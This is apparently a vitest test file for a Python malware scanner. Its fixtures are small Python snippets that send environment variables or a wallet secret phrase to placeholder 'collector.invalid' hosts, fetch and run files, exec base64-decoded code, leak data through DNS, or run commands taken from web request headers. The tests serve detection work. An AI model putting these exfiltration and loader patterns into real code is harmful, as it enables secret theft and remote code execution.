// What runs as soon as a Python module is loaded, programs inside texts, names in letters of other styles.
import { describe, expect, it } from 'vitest'
import { factsOfPython } from '../../../src/scanners/content/code-analysis.ts'

const factsIn = (...lines: string[]) => factsOfPython(lines.join('\n')).facts.map((fact) => fact.query)
const GET = "requests.get('https://collector.invalid/i')"

describe('a request at load', () => {
  it.each([
    ['a function that is called', ['import requests', 'def f():', `    ${GET}`, 'f()']],
    ['an exit handler', ['import atexit, requests', '@atexit.register', 'def f():', `    ${GET}`]],
    [
      'a thread',
      [
        'import threading, requests',
        'def f():',
        `    ${GET}`,
        'threading.Thread(target=f, daemon=True).start()',
      ],
    ],
    [
      'a method that a constructor starts',
      [
        'import requests',
        'class A:',
        '    def __init__(self):',
        '        self.go()',
        '    def go(self):',
        `        ${GET}`,
        'A()',
      ],
    ],
    [
      'what a class runs when another is derived from it',
      ['import requests', 'class A:', '    def __init_subclass__(cls):', `        ${GET}`],
    ],
    [
      'a decorator of the package that calls what it decorates',
      ['import requests', 'def now(f):', '    f()', '    return f', '@now', 'def g():', `    ${GET}`],
    ],
    ['a name that a module does not have', ['import requests', 'def __getattr__(name):', `    ${GET}`]],
  ])('is %s', (_name, lines) => {
    expect(factsIn(...lines)).toContain('network-at-load-abroad')
  })

  it.each([
    ['in a function that nothing calls', ['import requests', 'def f():', `    ${GET}`]],
    [
      'behind the test for being the program',
      ['import requests', 'def f():', `    ${GET}`, "if __name__ == '__main__':", '    f()'],
    ],
    [
      'in a method of a class that nobody makes',
      ['import requests', 'class A:', '    def __init__(self):', `        ${GET}`],
    ],
  ])('is not %s', (_name, lines) => {
    expect(factsIn(...lines)).not.toContain('network-at-load')
  })

  it('is also what a build script guards: it is always run as the program', () => {
    const lines = [
      'from setuptools import setup',
      'import requests',
      "if __name__ == '__main__':",
      `    ${GET}`,
    ]
    expect(factsIn(...lines, '    setup()')).toContain('network-at-load-abroad')
  })

  it('names bound behind the test for being the program stay names of the module', () => {
    expect(
      factsIn("if __name__ == '__main__':", '    import requests as r', `r.get('https://collector.invalid')`),
    ).toContain('network-at-load-abroad')
  })
})

describe('programs inside texts', () => {
  const programsIn = (...lines: string[]) => factsOfPython(lines.join('\n')).programs.map(({ text }) => text)

  it.each([
    ['evaluated', ['CODE = """import os\\nos.system(1)"""', 'exec(CODE)']],
    ['written', ['CODE = """import os\\nos.system(1)"""', 'f = open("a.py", "w")', 'f.write(CODE)']],
    [
      'given to an interpreter',
      [
        'import subprocess, sys',
        'CODE = """import os\\nos.system(1)"""',
        "subprocess.Popen([sys.executable, '-c', CODE])",
      ],
    ],
  ])('are found where they are %s', (_name, lines) => {
    expect(programsIn(...lines)).toEqual(['import os\nos.system(1)'])
  })

  it('are none where a text is only kept', () => {
    expect(programsIn('"""import os\\nos.system(1)"""', 'X = "import os; os.system(1)"')).toEqual([])
  })
})

it('reads names in letters of other styles as Python does', () => {
  expect(factsIn('import base64', '\u212f\u{1d4cd}\u212f\u{1d4b8}(base64.b64decode(x))')).toContain(
    'exec-decoded',
  )
})

it('tells a file that is little else than one encoded text', () => {
  const text = 'ab12'.repeat(200)
  expect(factsIn(`run('${text}')`)).toContain('mostly-encoded')
  expect(
    factsIn(`run('${text}')`, ...Array.from({ length: 40 }, (_, i) => `value_of_number_${i} = ${i}`)),
  ).not.toContain('mostly-encoded')
})

describe('functions that are given to be called', () => {
  it.each([
    [
      'a thread',
      [
        'import threading, os, base64',
        "threading.Thread(target=os.system, args=(base64.b64decode('Y3VybA=='),)).start()",
      ],
      'process-decoded',
    ],
    ['a mapping', ['import base64', 'list(map(exec, [base64.b64decode(x)]))'], 'exec-decoded'],
    [
      'a function of the package that only tries',
      [
        'import socket',
        'def attempt(f, *args):',
        '    return f(*args)',
        "attempt(socket.gethostbyname, attempt(socket.getfqdn) + '.collector.invalid')",
      ],
      'name-lookup-leak',
    ],
  ])('are called by %s', (_name, lines, fact) => {
    expect(factsIn(...lines)).toContain(fact)
  })
})

describe('values on their way', () => {
  it.each([
    [
      'a key taken out of a record, mixed and handed to a thread',
      [
        'import json, threading, urllib.request',
        'def send(blob):',
        "    urllib.request.urlopen(urllib.request.Request('https://collector.invalid/t', data=blob))",
        'def report(key):',
        "    blob = json.dumps({'k': key.get('secretPhrase')}).encode()",
        '    threading.Thread(target=send, args=(bytes(b ^ 7 for b in blob),)).start()',
      ],
      'wallet-key-sent',
    ],
    [
      'a file fetched by a function with two callers',
      [
        'import subprocess, urllib.request',
        'def run(url, path):',
        '    urllib.request.urlretrieve(url, path)',
        '    subprocess.Popen([path])',
        "run('https://files.invalid/a', '/tmp/a')",
        "run('https://files.invalid/b', '/tmp/b')",
      ],
      'download-run',
    ],
    [
      'bits collected into bytes',
      [
        'def text_of(bits):',
        '    out = bytearray()',
        '    for b in bits: out.append(b == 9)',
        '    return bytes(out)',
        "eval(compile(text_of(X).decode(), 'v', 'exec'))",
      ],
      'exec-unpacked',
    ],
    [
      'the environment to a host that is decoded',
      [
        'import os, base64, http.client',
        "c = http.client.HTTPSConnection(base64.b64decode('eA==').decode())",
        "c.request('POST', '/', '\\n'.join('%s=%s' % kv for kv in os.environ.items()))",
      ],
      'environment-sent',
    ],
    [
      'a command out of a web request',
      [
        'import subprocess',
        'from flask import request',
        'def probe():',
        "    return subprocess.getoutput(request.headers.get('X-Args'))",
      ],
      'process-fetched-variable',
    ],
  ])('are followed: %s', (_name, lines, fact) => {
    expect(factsIn(...lines)).toContain(fact)
  })

  it('a fetched version in a shell line is no hidden program', () => {
    expect(
      factsIn(
        'import subprocess, requests',
        "v = requests.get('https://api.invalid/v').text",
        "subprocess.Popen(['sh', '-c', '. x && install tool@{0}'.format(v)])",
      ),
    ).not.toContain('process-inline-payload')
  })
})

describe('a function that acts and goes on as a parameter', () => {
  const SEND = "    post('https://collector.invalid', json=env)"

  it('does not send what stays behind', () => {
    const facts = factsIn(
      'import os, requests',
      'def limits(url, get):',
      '    return get(url)',
      'def sync(env, url, *, get=requests.get):',
      "    return None if 'X' in env else limits(url, get=get)",
      'def start(env, url, *, get=requests.get):',
      '    return sync(env, url, get=get)',
      'start(os.environ, input())',
    )
    expect(facts).toContain('network')
    expect(facts).not.toContain('environment-sent')
  })

  it.each([
    ['a function with one caller', ['    relay(env, post=post)']],
    ['a function with several', ['    relay(env, post)', '    relay({}, post)']],
  ])('sends what %s sends with it', (_, passes) => {
    const relay = ['def relay(env, post):', SEND]
    const send = ['def send(env, post=requests.post):', ...passes, 'send(dict(os.environ))']
    expect(factsIn('import os, requests', ...relay, ...send)).toContain('environment-sent')
  })
})
